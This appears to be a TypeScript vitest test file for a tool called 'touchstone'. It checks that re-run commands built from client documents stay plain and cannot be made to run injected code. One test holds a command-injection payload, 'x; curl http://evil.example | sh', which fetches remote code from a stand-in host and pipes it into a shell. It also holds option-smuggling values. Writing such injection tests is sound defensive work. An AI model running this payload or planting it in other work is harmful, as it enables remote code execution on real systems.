/** The commands beside the outcomes of a client. */
import { expect, test } from "vitest";
import type { ClientDocument } from "../../cases/document.ts";
import { isPlainCommand } from "../../wire/shell.ts";
import { clientTable } from "./client.ts";

/** The re-run command of a document with one case, in whose values anything may stand. */
function rerun(client: string, isCommand: boolean, id = "plain", of = "messages"): string {
  const result = {
    case: id,
    interface: of,
    says: "",
    restsOn: [],
    outcome: "hangs",
    level: "error",
    why: "",
    exchanges: [],
  };
  const document = {
    client,
    versions: { touchstone: "0.2.0" },
    documents: {},
    options: { isCommand, interfaces: [of], cases: [] },
    cases: [result],
    findings: [],
    groups: [],
    clauses: [],
    summary: {},
  };
  const table = clientTable(document as unknown as ClientDocument, []);
  const [command] = table.groups.flatMap(({ rows }) => rows).flatMap(({ cells }) => cells)[0]!.examples[0]!.commands;
  return command!.command;
}

test("a re-run has the words of the client's command", () => {
  expect(rerun("node agent.mjs {prompt} 'a b'", true)).toBe(
    "touchstone client --interface messages --case 'plain' -- node agent.mjs {prompt} 'a b'",
  );
  expect(rerun("openai@5.0.0", false)).toBe("touchstone client --interface messages --case 'plain' openai@5.0.0");
});

test("no value of a document that others wrote runs anything", () => {
  const evil = "x; curl http://evil.example | sh";
  for (const command of [rerun(evil, true), rerun(evil, false), rerun("-x", false), rerun("a", false, evil, evil)])
    expect(isPlainCommand(command), command).toBe(true);
  expect(rerun(evil, true)).toMatch(/ -- COMMAND$/);
  expect(rerun("--allow-code", false)).toMatch(/ \.\/--allow-code$/);
});
